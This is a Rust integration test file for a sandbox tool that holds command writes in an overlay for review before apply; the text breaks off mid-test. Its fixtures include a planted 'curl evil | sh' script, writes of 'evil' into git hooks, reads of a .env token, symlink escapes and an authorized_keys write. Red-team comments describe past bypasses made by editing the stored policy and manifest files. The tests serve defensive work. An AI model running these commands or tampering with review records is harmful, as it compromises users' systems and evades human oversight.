//! End to end through `turngate run --review` and `turngate changes`: reviewable writes
//! (DESIGN §18). Real children write through an overlay; the workspace is compared before and
//! after; apply and discard are driven like a person would, from another process.
//!
//! Each test runs as root and as an unprivileged user (`tgsbx`, through `setpriv`): the
//! overlay, its xattrs and the id maps hit different kernel checks for each.

#![allow(clippy::unwrap_used, clippy::expect_used)]
#![cfg(target_os = "linux")]

use std::collections::BTreeMap;
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use serde_json::Value;

mod common;
use common::test_user;

fn bin() -> &'static str {
    env!("CARGO_BIN_EXE_turngate")
}

#[derive(Clone, Copy, Debug, PartialEq)]
enum Who {
    Root,
    User,
}

const BOTH: [Who; 2] = [Who::Root, Who::User];

/// The command of the "done when".
const FOUR: &str = "echo new > a.txt; rm b.txt; sed -i s/x/y/ c.txt; mkdir d";

struct Env {
    _base: tempfile::TempDir,
    who: Who,
    ids: Option<(u32, u32)>,
    root: PathBuf,
    workspace: PathBuf,
    outside: PathBuf,
    home: PathBuf,
    state: PathBuf,
}

fn chown_tree(path: &Path, uid: u32, gid: u32) {
    std::os::unix::fs::lchown(path, Some(uid), Some(gid)).unwrap();
    if path.is_dir() && !path.is_symlink() {
        for entry in std::fs::read_dir(path).unwrap() {
            chown_tree(&entry.unwrap().path(), uid, gid);
        }
    }
}

impl Env {
    fn new(who: Who) -> Env {
        let base = tempfile::tempdir().unwrap();
        let root = base.path().canonicalize().unwrap();
        std::fs::set_permissions(&root, std::fs::Permissions::from_mode(0o755)).unwrap();
        let [workspace, outside, home, state] =
            ["workspace", "outside", "home", "state"].map(|d| root.join(d));
        for dir in [&workspace, &outside, &home, &state] {
            std::fs::create_dir_all(dir).unwrap();
        }
        std::fs::write(workspace.join("b.txt"), "b\n").unwrap();
        std::fs::write(workspace.join("c.txt"), "x\nline2\n").unwrap();
        std::fs::write(outside.join("file.txt"), "outside\n").unwrap();
        let ids = (who == Who::User).then(test_user);
        let env = Env {
            _base: base,
            who,
            ids,
            root,
            workspace,
            outside,
            home,
            state,
        };
        env.chown();
        env
    }

    /// Give every file to the test user (after a test adds files as root).
    fn chown(&self) {
        if let Some((uid, gid)) = self.ids {
            chown_tree(&self.root, uid, gid);
        }
    }

    fn turngate(&self, args: &[&str]) -> Command {
        let mut cmd = match self.ids {
            Some((uid, gid)) => {
                let mut cmd = Command::new("setpriv");
                cmd.arg(format!("--reuid={uid}"))
                    .arg(format!("--regid={gid}"))
                    .arg("--clear-groups")
                    .arg("--")
                    .arg(bin());
                cmd
            }
            None => Command::new(bin()),
        };
        cmd.args(args)
            .current_dir(&self.workspace)
            .env_clear()
            .env("PATH", "/usr/bin:/bin")
            .env("HOME", &self.home)
            .env("LANG", "C")
            .stdin(Stdio::null());
        cmd
    }

    fn store(&self) -> String {
        self.state.join("audit.db").display().to_string()
    }

    /// `turngate run [--review] --mode auto_accept_edits -- sh -c SCRIPT` in `workspace`.
    fn run_in(&self, workspace: &Path, review: bool, script: &str) -> Output {
        let ws = workspace.display().to_string();
        let store = self.store();
        let mut args = vec!["run"];
        if review {
            args.push("--review");
        }
        args.extend([
            "--mode",
            "auto_accept_edits",
            "--approver",
            "allow",
            "--workspace",
            &ws,
            "--store",
            &store,
            "--",
            "sh",
            "-c",
            script,
        ]);
        let mut cmd = self.turngate(&args);
        cmd.current_dir(workspace);
        cmd.output().unwrap()
    }

    /// Run `script` under review; the new change set's id.
    fn review(&self, script: &str) -> String {
        let before = self.ids_listed();
        let out = self.run_in(&self.workspace, true, script);
        assert!(
            out.status.code().is_some(),
            "{:?}: {}",
            self.who,
            String::from_utf8_lossy(&out.stderr)
        );
        let after = self.ids_listed();
        let new: Vec<_> = after.iter().filter(|id| !before.contains(id)).collect();
        assert_eq!(
            new.len(),
            1,
            "{:?}: one new change set expected: {}",
            self.who,
            String::from_utf8_lossy(&out.stderr)
        );
        new[0].clone()
    }

    fn changes(&self, args: &[&str]) -> Output {
        let store = self.store();
        let mut all = vec!["changes"];
        all.extend_from_slice(args);
        all.extend(["--store", &store]);
        self.turngate(&all).output().unwrap()
    }

    fn changes_json(&self, args: &[&str]) -> Value {
        let mut all = args.to_vec();
        all.push("--json");
        let out = self.changes(&all);
        serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
            panic!(
                "{:?}: {e}: {} {}",
                self.who,
                String::from_utf8_lossy(&out.stdout),
                String::from_utf8_lossy(&out.stderr)
            )
        })
    }

    fn changes_json_at(&self, db: &Path, args: &[&str]) -> Value {
        let db = db.display().to_string();
        let mut all = vec!["changes"];
        all.extend_from_slice(args);
        all.extend(["--store", &db, "--json"]);
        let out = self.turngate(&all).output().unwrap();
        serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("{e}: {}", stderr(&out)))
    }

    fn ids_listed(&self) -> Vec<String> {
        let list = self.changes_json(&["list"]);
        list.as_array()
            .unwrap()
            .iter()
            .map(|s| s["id"].as_str().unwrap().to_owned())
            .collect()
    }

    fn show(&self, id: &str) -> Value {
        self.changes_json(&["show", id])
    }

    fn upper(&self, id: &str) -> PathBuf {
        self.state.join("changes").join(id).join("upper/0")
    }
}

/// Every entry under `dir` (not following symlinks): type, permission bits, content or link
/// target. Times are left out: a direct run and an applied change set differ there.
fn tree(dir: &Path) -> BTreeMap<String, String> {
    fn walk(base: &Path, dir: &Path, out: &mut BTreeMap<String, String>) {
        let mut entries: Vec<_> = std::fs::read_dir(dir)
            .unwrap()
            .map(|e| e.unwrap())
            .collect();
        entries.sort_by_key(|e| e.file_name());
        for e in entries {
            let path = e.path();
            let rel = path.strip_prefix(base).unwrap().display().to_string();
            let meta = std::fs::symlink_metadata(&path).unwrap();
            let mode = meta.mode() & 0o7777;
            let value = if meta.file_type().is_symlink() {
                format!("link -> {}", std::fs::read_link(&path).unwrap().display())
            } else if meta.is_dir() {
                walk(base, &path, out);
                format!("dir {mode:o}")
            } else if meta.is_file() {
                format!(
                    "file {mode:o} {:?}",
                    String::from_utf8_lossy(&std::fs::read(&path).unwrap())
                )
            } else {
                format!("other {:o}", meta.mode())
            };
            out.insert(rel, value);
        }
    }
    let mut out = BTreeMap::new();
    walk(dir, dir, &mut out);
    out
}

fn kinds(set: &Value) -> Vec<(String, String, String)> {
    set["changes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| {
            (
                c["path"].as_str().unwrap().to_owned(),
                c["kind"].as_str().unwrap().to_owned(),
                c["entry"].as_str().unwrap().to_owned(),
            )
        })
        .collect()
}

fn triple(path: &str, kind: &str, entry: &str) -> (String, String, String) {
    (path.to_owned(), kind.to_owned(), entry.to_owned())
}

fn stderr(out: &Output) -> String {
    String::from_utf8_lossy(&out.stderr).into_owned()
}

#[test]
fn the_four_changes_are_held_for_review_then_applied_or_discarded() {
    for who in BOTH {
        let env = Env::new(who);
        // The reference: the same command run directly in a copy of the workspace.
        let direct = env.root.join("direct");
        std::fs::create_dir_all(&direct).unwrap();
        for f in ["b.txt", "c.txt"] {
            std::fs::copy(env.workspace.join(f), direct.join(f)).unwrap();
        }
        env.chown();
        let out = env.run_in(&direct, false, FOUR);
        assert_eq!(out.status.code(), Some(0), "{who:?}: {}", stderr(&out));

        let before = tree(&env.workspace);
        let id = env.review(FOUR);
        assert_eq!(
            tree(&env.workspace),
            before,
            "{who:?}: the workspace changed under review"
        );

        let set = env.show(&id);
        assert_eq!(set["status"], "pending");
        assert_eq!(
            kinds(&set),
            vec![
                triple("a.txt", "added", "file"),
                triple("b.txt", "deleted", "file"),
                triple("c.txt", "modified", "file"),
                triple("d", "added", "dir"),
            ],
            "{who:?}: {set:#}"
        );
        let c = &set["changes"][2];
        assert_eq!(
            c["diff"].as_str().unwrap(),
            "--- a/c.txt\n+++ b/c.txt\n@@ -1,2 +1,2 @@\n-x\n+y\n line2\n",
            "{who:?}"
        );
        assert_eq!(
            set["changes"][0]["diff"].as_str().unwrap(),
            "--- a/a.txt\n+++ b/a.txt\n@@ -0,0 +1 @@\n+new\n"
        );
        // The text form lists the four and prints the diffs.
        let text = String::from_utf8_lossy(&env.changes(&["show", &id]).stdout).into_owned();
        for line in [
            "added        a.txt",
            "deleted      b.txt",
            "modified     c.txt",
            "added        d/",
            "-x",
            "+y",
        ] {
            assert!(
                text.contains(line),
                "{who:?}: `{line}` missing from\n{text}"
            );
        }

        let out = env.changes(&["apply", &id]);
        assert_eq!(out.status.code(), Some(0), "{who:?}: {}", stderr(&out));
        assert_eq!(
            tree(&env.workspace),
            tree(&direct),
            "{who:?}: applied != direct run"
        );
        assert!(
            !env.upper(&id).exists(),
            "{who:?}: the upper dir outlived the apply"
        );

        // A second apply of the same change set is refused and changes nothing.
        let applied = tree(&env.workspace);
        let out = env.changes(&["apply", &id]);
        assert_eq!(out.status.code(), Some(1), "{who:?}");
        assert!(
            stderr(&out).contains("is applied, not pending"),
            "{who:?}: {}",
            stderr(&out)
        );
        assert_eq!(tree(&env.workspace), applied);

        // A second run, discarded: the workspace is left as it was.
        let second = env.review("echo again > a.txt; rm c.txt; mkdir e; echo f > e/f");
        assert_eq!(kinds(&env.show(&second)).len(), 4, "{who:?}");
        let out = env.changes(&["discard", &second]);
        assert_eq!(out.status.code(), Some(0), "{who:?}: {}", stderr(&out));
        assert_eq!(
            tree(&env.workspace),
            applied,
            "{who:?}: discard touched the workspace"
        );
        assert!(!env.upper(&second).exists());
        assert_eq!(env.show(&second)["status"], "discarded");
        let out = env.changes(&["apply", &second]);
        assert_eq!(
            out.status.code(),
            Some(1),
            "{who:?}: a discarded set applied"
        );
        assert_eq!(tree(&env.workspace), applied);

        // Audited: one row per change set event.
        let out = env
            .turngate(&["audit", "--store", &env.store(), "--json"])
            .output()
            .unwrap();
        let rows: Value = serde_json::from_slice(&out.stdout).unwrap();
        let row_kinds: Vec<&str> = rows
            .as_array()
            .unwrap()
            .iter()
            .map(|r| r["kind"].as_str().unwrap())
            .collect();
        assert!(row_kinds.contains(&"changes_recorded"), "{row_kinds:?}");
        assert!(row_kinds.contains(&"changes_discarded"), "{row_kinds:?}");
    }
}

#[test]
fn apply_refuses_a_path_changed_in_the_workspace_since_the_run_and_names_it() {
    for who in BOTH {
        let env = Env::new(who);
        let id = env.review(FOUR);
        // Someone edits c.txt in the real workspace after the run.
        let c_path = env.workspace.join("c.txt");
        std::fs::write(&c_path, "edited meanwhile\n").unwrap();
        if let Some((uid, gid)) = env.ids {
            std::os::unix::fs::lchown(&c_path, Some(uid), Some(gid)).unwrap();
        }
        let before = tree(&env.workspace);
        let out = env.changes(&["apply", &id]);
        assert_eq!(out.status.code(), Some(1), "{who:?}");
        let c = env.workspace.join("c.txt").display().to_string();
        assert!(
            stderr(&out).contains("conflicts") && stderr(&out).contains(&c),
            "{who:?}: {}",
            stderr(&out)
        );
        // Nothing half-applied: a.txt was not created, b.txt not deleted.
        assert_eq!(tree(&env.workspace), before, "{who:?}");
        let json = env.changes_json(&["apply", &id]);
        assert_eq!(json["error"], "conflicts");
        assert_eq!(json["paths"], serde_json::json!([c]));
        assert_eq!(env.show(&id)["status"], "pending");
    }
}

#[test]
fn the_masks_still_apply_over_the_overlay() {
    for who in BOTH {
        let env = Env::new(who);
        std::fs::write(env.workspace.join(".env"), "TOKEN=hunter2-in-dotenv\n").unwrap();
        std::fs::create_dir_all(env.workspace.join(".git/hooks")).unwrap();
        env.chown();
        let before = tree(&env.workspace);
        let out = env.run_in(
            &env.workspace,
            true,
            "cat .env; echo r=$?; echo evil > .git/hooks/pre-commit; echo w=$?; \
             mv .git .git-old; echo m=$?; ls .git/hooks",
        );
        let stdout = String::from_utf8_lossy(&out.stdout);
        assert!(
            !stdout.contains("hunter2"),
            "{who:?}: a hidden file was read: {stdout}"
        );
        assert!(
            stdout.contains("r=1") && stdout.contains("w=2"),
            "{who:?}: {stdout} {}",
            stderr(&out)
        );
        assert!(
            !stdout.contains("m=0"),
            "{who:?}: .git was moved aside: {stdout}"
        );
        assert!(
            stderr(&out).contains("Permission denied"),
            "{who:?}: {}",
            stderr(&out)
        );
        assert!(
            stderr(&out).contains("Read-only file system"),
            "{who:?}: {}",
            stderr(&out)
        );
        let id = env.ids_listed().pop().unwrap();
        let set = env.show(&id);
        assert_eq!(kinds(&set), vec![], "{who:?}: {set:#}");
        assert_eq!(tree(&env.workspace), before);
    }
}

#[test]
fn symlinks_never_lead_apply_outside_the_root() {
    for who in BOTH {
        let env = Env::new(who);
        let outside_file = env.outside.join("file.txt");
        let script = format!(
            "ln -s {f} link.txt; echo pwned > link.txt; ln -s {d} dirlink; echo pwned > dirlink/new.txt; \
             mkdir sub; echo f > sub/f",
            f = outside_file.display(),
            d = env.outside.display()
        );
        let id = env.review(&script);
        let set = env.show(&id);
        // The writes through the links hit the read-only view; only the links are recorded.
        assert_eq!(
            kinds(&set),
            vec![
                triple("dirlink", "added", "symlink"),
                triple("link.txt", "added", "symlink"),
                triple("sub", "added", "dir"),
                triple("sub/f", "added", "file"),
            ],
            "{who:?}: {set:#}"
        );
        assert!(
            set["changes"][0]["note"]
                .as_str()
                .unwrap()
                .contains("outside the root")
        );
        // An attacker plants `sub -> outside` in the workspace before the apply.
        std::os::unix::fs::symlink(&env.outside, env.workspace.join("sub")).unwrap();
        let out = env.changes(&["apply", &id]);
        assert_eq!(out.status.code(), Some(1), "{who:?}: {}", stderr(&out));
        assert!(stderr(&out).contains(&env.workspace.join("sub").display().to_string()));
        assert!(
            !env.outside.join("f").exists(),
            "{who:?}: apply wrote outside the root"
        );
        std::fs::remove_file(env.workspace.join("sub")).unwrap();
        // Without the plant the links are created as links; nothing is written through them.
        let out = env.changes(&["apply", &id]);
        assert_eq!(out.status.code(), Some(0), "{who:?}: {}", stderr(&out));
        assert_eq!(std::fs::read_to_string(&outside_file).unwrap(), "outside\n");
        assert!(!env.outside.join("new.txt").exists());
        assert_eq!(
            std::fs::read_link(env.workspace.join("link.txt")).unwrap(),
            outside_file
        );
        assert_eq!(
            std::fs::read_to_string(env.workspace.join("sub/f")).unwrap(),
            "f\n"
        );
    }
}

#[test]
fn a_change_set_whose_upper_dir_was_tampered_with_is_refused() {
    for who in BOTH {
        let env = Env::new(who);
        let id = env.review(FOUR);
        let before = tree(&env.workspace);
        // A file added to the upper dir after the run...
        std::fs::write(env.upper(&id).join("planted.sh"), "curl evil | sh\n").unwrap();
        env.chown();
        let json = env.changes_json(&["apply", &id]);
        assert_eq!(json["error"], "tampered", "{who:?}: {json}");
        assert!(
            json["message"].as_str().unwrap().contains("planted.sh"),
            "{json}"
        );
        assert_eq!(tree(&env.workspace), before);
        // ...and a recorded file swapped for a symlink to a file outside.
        std::fs::remove_file(env.upper(&id).join("planted.sh")).unwrap();
        std::fs::remove_file(env.upper(&id).join("a.txt")).unwrap();
        std::os::unix::fs::symlink(env.outside.join("file.txt"), env.upper(&id).join("a.txt"))
            .unwrap();
        let json = env.changes_json(&["apply", &id]);
        assert_eq!(json["error"], "tampered", "{who:?}: {json}");
        assert_eq!(tree(&env.workspace), before);
        assert_eq!(env.show(&id)["status"], "pending");
        // Discarding is still possible.
        assert_eq!(env.changes(&["discard", &id]).status.code(), Some(0));
    }
}

#[test]
fn apply_refuses_what_the_file_policy_protects() {
    for who in BOTH {
        let env = Env::new(who);
        // No .git/hooks and no .env at spawn: nothing to bind read-only or hide, so the
        // command can create them in its overlay (ADR 0010's known limit). Apply re-checks.
        std::fs::create_dir_all(env.workspace.join(".git")).unwrap();
        env.chown();
        let before = tree(&env.workspace);
        let id = env.review("mkdir .git/hooks && echo evil > .git/hooks/pre-commit; /usr/bin/python3 -c \"open('.env', 'w').write('T=1')\"; echo ok > ok.txt");
        let paths: Vec<String> = kinds(&env.show(&id)).into_iter().map(|k| k.0).collect();
        assert_eq!(
            paths,
            [".env", ".git/hooks", ".git/hooks/pre-commit", "ok.txt"],
            "{who:?}"
        );
        let json = env.changes_json(&["apply", &id]);
        assert_eq!(json["error"], "policy_refused", "{who:?}: {json}");
        let refused: Vec<String> = json["paths"]
            .as_array()
            .unwrap()
            .iter()
            .map(|p| p.as_str().unwrap().to_owned())
            .collect();
        let ws = env.workspace.display();
        for p in [".env", ".git/hooks", ".git/hooks/pre-commit"] {
            assert!(
                refused.contains(&format!("{ws}/{p}")),
                "{who:?}: {p} not refused: {refused:?}"
            );
        }
        assert!(!refused.contains(&format!("{ws}/ok.txt")));
        // The person's confirmation covers the asks (.git/hooks), never the deny (.env).
        let json = env.changes_json(&["apply", &id, "--confirm-asks"]);
        assert_eq!(json["error"], "policy_refused", "{who:?}: {json}");
        assert_eq!(json["paths"], serde_json::json!([format!("{ws}/.env")]));
        assert_eq!(
            tree(&env.workspace),
            before,
            "{who:?}: something was applied"
        );
    }
}

#[test]
fn fifos_are_refused_and_hard_links_are_applied_as_copies() {
    for who in BOTH {
        let env = Env::new(who);
        let id = env.review("mkfifo pipe; echo h > h1; ln h1 h2");
        let set = env.show(&id);
        assert!(
            kinds(&set).contains(&triple("pipe", "unsupported", "other")),
            "{who:?}: {set:#}"
        );
        let before = tree(&env.workspace);
        let json = env.changes_json(&["apply", &id]);
        assert_eq!(json["error"], "unsupported", "{who:?}: {json}");
        assert_eq!(tree(&env.workspace), before);
        env.changes(&["discard", &id]);

        let id = env.review("echo h > h1; ln h1 h2");
        let set = env.show(&id);
        assert!(
            set["changes"][0]["note"]
                .as_str()
                .unwrap()
                .contains("hard link"),
            "{set:#}"
        );
        let out = env.changes(&["apply", &id]);
        assert_eq!(out.status.code(), Some(0), "{who:?}: {}", stderr(&out));
        for f in ["h1", "h2"] {
            let meta = std::fs::symlink_metadata(env.workspace.join(f)).unwrap();
            assert!(meta.is_file() && meta.nlink() == 1, "{who:?}: {f}");
            assert_eq!(
                std::fs::read_to_string(env.workspace.join(f)).unwrap(),
                "h\n"
            );
        }
    }
}

#[test]
fn a_directory_rename_is_recorded_as_a_copy_and_a_deletion() {
    for who in BOTH {
        let env = Env::new(who);
        std::fs::create_dir_all(env.workspace.join("src/inner")).unwrap();
        std::fs::write(env.workspace.join("src/inner/m.rs"), "fn main() {}\n").unwrap();
        std::fs::set_permissions(
            env.workspace.join("c.txt"),
            std::fs::Permissions::from_mode(0o644),
        )
        .unwrap();
        env.chown();
        let id = env.review("mv src dst; chmod 600 c.txt");
        assert_eq!(
            kinds(&env.show(&id)),
            vec![
                triple("c.txt", "mode_changed", "file"),
                triple("dst", "added", "dir"),
                triple("dst/inner", "added", "dir"),
                triple("dst/inner/m.rs", "added", "file"),
                triple("src", "deleted", "dir"),
            ],
            "{who:?}"
        );
        let out = env.changes(&["apply", &id]);
        assert_eq!(out.status.code(), Some(0), "{who:?}: {}", stderr(&out));
        assert!(!env.workspace.join("src").exists());
        assert_eq!(
            std::fs::read_to_string(env.workspace.join("dst/inner/m.rs")).unwrap(),
            "fn main() {}\n"
        );
        assert_eq!(
            std::fs::metadata(env.workspace.join("c.txt"))
                .unwrap()
                .mode()
                & 0o777,
            0o600
        );
    }
}

#[test]
fn a_deleted_directory_changed_since_the_run_is_a_conflict() {
    let env = Env::new(Who::Root);
    std::fs::create_dir_all(env.workspace.join("old")).unwrap();
    std::fs::write(env.workspace.join("old/keep.txt"), "k\n").unwrap();
    let id = env.review("rm -rf old");
    assert_eq!(kinds(&env.show(&id)), vec![triple("old", "deleted", "dir")]);
    std::fs::write(env.workspace.join("old/new-work.txt"), "precious\n").unwrap();
    let json = env.changes_json(&["apply", &id]);
    assert_eq!(json["error"], "conflicts", "{json}");
    assert!(env.workspace.join("old/new-work.txt").exists());
}

#[test]
fn review_is_refused_where_a_user_namespace_is_unavailable() {
    let env = Env::new(Who::Root);
    let marker = env.workspace.join("ran.txt");
    let inner = env.turngate(&[
        "run",
        "--review",
        "--mode",
        "auto_accept_edits",
        "--approver",
        "allow",
        "--workspace",
        env.workspace.to_str().unwrap(),
        "--store",
        &env.store(),
        "--",
        "sh",
        "-c",
        "echo ran > ran.txt",
    ]);
    let mut cmd = Command::new("unshare");
    cmd.args(["--user", "--map-root-user", "--", "sh", "-c"])
        .arg("echo 0 > /proc/sys/user/max_user_namespaces && exec \"$@\"")
        .arg("sh")
        .arg(inner.get_program())
        .args(inner.get_args())
        .current_dir(&env.workspace)
        .env_clear()
        .env("PATH", "/usr/bin:/bin")
        .env("HOME", &env.home);
    let out = cmd.output().unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("reviewable writes are unavailable"),
        "{}",
        stderr(&out)
    );
    assert!(!marker.exists(), "the command ran unreviewed");
}

#[test]
fn review_is_refused_in_a_mode_without_a_sandbox() {
    let env = Env::new(Who::Root);
    let out = env
        .turngate(&[
            "run",
            "--review",
            "--mode",
            "full_access",
            "--approver",
            "allow",
            "--workspace",
            env.workspace.to_str().unwrap(),
            "--store",
            &env.store(),
            "--",
            "sh",
            "-c",
            "echo ran > ran.txt",
        ])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("reviewable writes are unavailable"),
        "{}",
        stderr(&out)
    );
    assert!(
        !env.workspace.join("ran.txt").exists(),
        "the command ran unreviewed"
    );
}

#[test]
fn the_masks_hold_when_the_state_dir_is_on_another_filesystem() {
    // Through an overlay whose upper layer is on another filesystem, files report a per-layer
    // device and directories made-up inode numbers: the masks' identity checks must still
    // pass for the right files (and only for them).
    if !Path::new("/dev/shm").is_dir() {
        panic!("no /dev/shm (a tmpfs) to hold the state dir on another filesystem");
    }
    for who in BOTH {
        let mut env = Env::new(who);
        let shm = tempfile::tempdir_in("/dev/shm").unwrap();
        std::fs::set_permissions(shm.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
        env.state = shm.path().join("state");
        std::fs::create_dir_all(&env.state).unwrap();
        assert_ne!(
            std::fs::metadata(&env.state).unwrap().dev(),
            std::fs::metadata(&env.workspace).unwrap().dev()
        );
        std::fs::write(env.workspace.join(".env"), "TOKEN=hunter2-in-dotenv\n").unwrap();
        std::fs::create_dir_all(env.workspace.join("secretdir")).unwrap();
        std::fs::write(env.workspace.join("secretdir/key"), "hunter2-in-dir\n").unwrap();
        let policy = env.root.join("policy.toml");
        std::fs::write(
            &policy,
            "[[layers]]\nname = \"project\"\n\n[[layers.rules]]\nkind = \"file_read\"\n\
             effect = \"deny\"\npattern = \"secretdir\"\n",
        )
        .unwrap();
        if let Some((uid, gid)) = env.ids {
            chown_tree(&env.root, uid, gid);
            chown_tree(shm.path(), uid, gid);
        }
        let ws = env.workspace.display().to_string();
        let store = env.store();
        let out = env
            .turngate(&[
                "run",
                "--review",
                "--mode",
                "auto_accept_edits",
                "--policy",
                policy.to_str().unwrap(),
                "--approver",
                "allow",
                "--workspace",
                &ws,
                "--store",
                &store,
                "--",
                "sh",
                "-c",
                "cat .env; cat secretdir/key; ls secretdir; echo new > a.txt",
            ])
            .output()
            .unwrap();
        let stdout = String::from_utf8_lossy(&out.stdout);
        assert!(
            !stdout.contains("hunter2"),
            "{who:?}: a hidden path was read: {stdout}"
        );
        assert!(
            stderr(&out).contains("Permission denied") && stderr(&out).contains("change set"),
            "{who:?}: {}",
            stderr(&out)
        );
        let id = env.ids_listed().pop().unwrap();
        assert_eq!(
            kinds(&env.show(&id)),
            vec![triple("a.txt", "added", "file")],
            "{who:?}"
        );
        let out = env.changes(&["apply", &id]);
        assert_eq!(out.status.code(), Some(0), "{who:?}: {}", stderr(&out));
        assert_eq!(
            std::fs::read_to_string(env.workspace.join("a.txt")).unwrap(),
            "new\n"
        );
    }
}

#[test]
fn ordinary_work_under_review_git_init_and_commit() {
    for who in BOTH {
        let env = Env::new(who);
        std::fs::write(
            env.home.join(".gitconfig"),
            "[user]\n\tname = T\n\temail = t@example.invalid\n",
        )
        .unwrap();
        env.chown();
        let id =
            env.review("git init -q && git add c.txt && git commit -qm one && git log --oneline");
        assert!(
            !env.workspace.join(".git").exists(),
            "{who:?}: git wrote the workspace"
        );
        // `git init` writes .git/config and .git/hooks, which the policy asks about: a plain
        // apply refuses them, the person's --confirm-asks applies.
        let json = env.changes_json(&["apply", &id]);
        assert_eq!(json["error"], "policy_refused", "{who:?}: {json}");
        let out = env.changes(&["apply", &id, "--confirm-asks", "--by", "ana"]);
        assert_eq!(out.status.code(), Some(0), "{who:?}: {}", stderr(&out));
        assert_eq!(env.show(&id)["resolved_by"], "person:ana");
        // Read as root: the repository may belong to the test user.
        let log = Command::new("git")
            .args([
                "-c",
                &format!("safe.directory={}", env.workspace.display()),
                "log",
                "--format=%s",
            ])
            .current_dir(&env.workspace)
            .env("HOME", &env.home)
            .output()
            .unwrap();
        let text = String::from_utf8_lossy(&log.stdout).into_owned();
        assert_eq!(
            text.trim(),
            "one",
            "{who:?}: {}",
            String::from_utf8_lossy(&log.stderr)
        );
    }
}

#[test]
fn an_apply_in_progress_elsewhere_makes_another_one_wait_its_turn() {
    use std::os::fd::AsRawFd;
    let env = Env::new(Who::Root);
    let id = env.review(FOUR);
    let lock = std::fs::OpenOptions::new()
        .write(true)
        .create(true)
        .truncate(false)
        .open(env.state.join("changes").join(&id).join("lock"))
        .unwrap();
    // SAFETY: flock on a descriptor this test owns.
    assert_eq!(unsafe { libc::flock(lock.as_raw_fd(), libc::LOCK_EX) }, 0);
    let before = tree(&env.workspace);
    assert_eq!(env.changes_json(&["apply", &id])["error"], "busy");
    assert_eq!(env.changes_json(&["discard", &id])["error"], "busy");
    assert_eq!(tree(&env.workspace), before);
    drop(lock);
    assert_eq!(env.changes(&["apply", &id]).status.code(), Some(0));
}

/// Edit a change set's stored JSON file (as the user who owns it).
fn edit_json(path: &Path, edit: impl FnOnce(&mut Value)) {
    let mut json: Value = serde_json::from_slice(&std::fs::read(path).unwrap()).unwrap();
    edit(&mut json);
    std::fs::write(path, serde_json::to_vec(&json).unwrap()).unwrap();
}

#[test]
fn a_snapshot_emptied_of_its_policy_after_the_run_is_refused_as_tampered() {
    // Red team R1: apply re-checked the policy in snapshot.json, a file beside the upper dir;
    // emptying its layers got a denied `.env.local` and an asked `.git/hooks/pre-commit` applied.
    for who in BOTH {
        let env = Env::new(who);
        std::fs::create_dir_all(env.workspace.join(".git")).unwrap();
        env.chown();
        let before = tree(&env.workspace);
        let id = env.review(
            "mkdir .git/hooks && echo evil > .git/hooks/pre-commit; /usr/bin/python3 -c \"open('.env.local', 'w').write('NEW=1')\"",
        );
        let json = env.changes_json(&["apply", &id]);
        assert_eq!(json["error"], "policy_refused", "{who:?}: {json}");
        let dir = env.state.join("changes").join(&id);
        edit_json(&dir.join("snapshot.json"), |s| {
            s["permission_profile"]["effective_policy"]["layers"] = serde_json::json!([]);
        });
        let json = env.changes_json(&["apply", &id, "--confirm-asks"]);
        assert_eq!(json["error"], "tampered", "{who:?}: {json}");
        assert_eq!(
            tree(&env.workspace),
            before,
            "{who:?}: something was applied"
        );
    }
}

#[test]
fn a_manifest_whose_change_list_was_edited_is_refused_as_tampered() {
    for who in BOTH {
        let env = Env::new(who);
        std::fs::create_dir_all(env.workspace.join(".git")).unwrap();
        env.chown();
        let before = tree(&env.workspace);
        let id = env.review("mkdir .git/hooks && echo evil > .git/hooks/pre-commit");
        let manifest = env.state.join("changes").join(&id).join("manifest.json");
        // Rename the hook in the list to a path the policy allows; the upper digest is
        // unchanged, so only the seal can tell.
        edit_json(&manifest, |m| {
            for c in m["changes"].as_array_mut().unwrap() {
                let p = c["path"].as_str().unwrap().replace(".git/hooks", "hooks");
                c["path"] = Value::String(p);
            }
        });
        let json = env.changes_json(&["apply", &id]);
        assert_eq!(json["error"], "tampered", "{who:?}: {json}");
        assert_eq!(
            tree(&env.workspace),
            before,
            "{who:?}: something was applied"
        );
    }
}

#[test]
fn a_root_rewritten_in_manifest_and_snapshot_never_leads_apply_elsewhere() {
    // Red team R1b: the workspace path replaced by another directory in both files made apply
    // write the upper dir's files there.
    for who in BOTH {
        let env = Env::new(who);
        let id = env.review("echo owned > authorized_keys");
        let dir = env.state.join("changes").join(&id);
        let (ws, out) = (
            env.workspace.display().to_string(),
            env.outside.display().to_string(),
        );
        for file in ["manifest.json", "snapshot.json"] {
            let path = dir.join(file);
            let text = std::fs::read_to_string(&path).unwrap().replace(&ws, &out);
            std::fs::write(&path, text).unwrap();
        }
        let json = env.changes_json(&["apply", &id]);
        assert_eq!(json["error"], "tampered", "{who:?}: {json}");
        assert!(!env.outside.join("authorized_keys").exists(), "{who:?}");
        assert!(!env.workspace.join("authorized_keys").exists(), "{who:?}");
    }
}

#[test]
fn apply_never_leaves_world_writable_or_sticky_modes() {
    // Red team R3: 0777 files and 1777 directories were applied as they were.
    for who in BOTH {
        let env = Env::new(who);
        let id = env.review(
            "echo ww > ww; chmod 0777 ww; mkdir d; chmod 1777 d; chmod 0666 b.txt; \
             cp /bin/true s; chmod 6757 s",
        );
        let set = env.show(&id);
        let mode_of = |path: &str| {
            set["changes"]
                .as_array()
                .unwrap()
                .iter()
                .find(|c| c["path"] == path)
                .unwrap_or_else(|| panic!("{who:?}: {path} not in {set:#}"))["mode"]
                .as_u64()
                .unwrap()
        };
        // The change set keeps what the command asked for...
        assert_eq!(mode_of("ww"), 0o777, "{who:?}");
        assert_eq!(mode_of("d"), 0o1777, "{who:?}");
        assert_eq!(mode_of("b.txt"), 0o666, "{who:?}");
        // ...show says what apply will do instead...
        let out = env.changes(&["show", &id]);
        let text = String::from_utf8_lossy(&out.stdout);
        for (path, applied) in [("ww", "775"), ("d/", "775"), ("b.txt", "664"), ("s", "755")] {
            let line = text
                .lines()
                .find(|l| l.split_whitespace().nth(1) == Some(path))
                .unwrap_or_else(|| panic!("{who:?}: no line for {path}: {text}"));
            assert!(
                line.contains(&format!("applied as {applied}")),
